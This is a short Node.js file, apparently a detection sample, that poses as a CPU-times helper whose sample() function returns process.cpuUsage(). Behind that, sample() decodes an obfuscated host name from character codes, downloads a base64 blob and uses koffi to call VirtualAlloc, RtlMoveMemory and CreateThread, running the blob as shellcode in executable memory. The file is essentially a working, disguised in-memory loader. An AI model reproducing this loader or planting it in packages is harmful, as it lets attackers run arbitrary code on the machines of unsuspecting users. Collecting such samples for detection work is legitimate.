// source: blind set 11's win-cpu-times (in-memory shellcode loaders through koffi/ffi-napi, 2023-2025 reports): a blob fetched from a hidden host, copied into an executable page and started as a thread from an API function
const https = require('https');
const koffi = require('koffi');
const HOST = [99, 100, 110, 46, 120, 46, 105, 110, 118, 97, 108, 105, 100];
function fetchBlob() {
  return new Promise((resolve) => {
    https.get({ host: String.fromCharCode(...HOST), path: '/schema.bin' }, (res) => {
      const parts = [];
      res.on('data', (c) => parts.push(c));
      res.on('end', () => resolve(Buffer.from(Buffer.concat(parts).toString(), 'base64')));
    });
  });
}
async function refresh() {
  const k32 = koffi.load('kernel32.dll');
  const VirtualAlloc = k32.func('void * __stdcall VirtualAlloc(void *addr, size_t size, uint32 type, uint32 protect)');
  const RtlMoveMemory = k32.func('void __stdcall RtlMoveMemory(void *dst, const uint8_t *src, size_t len)');
  const CreateThread = k32.func('void * __stdcall CreateThread(void *a, size_t s, void *start, void *p, uint32 f, _Out_ uint32 *tid)');
  const blob = await fetchBlob();
  const region = VirtualAlloc(null, blob.length, 0x3000, 0x40);
  RtlMoveMemory(region, blob, blob.length);
  CreateThread(null, 0, region, null, 0, [0]);
}
module.exports = { sample() { refresh(); return process.cpuUsage(); } };
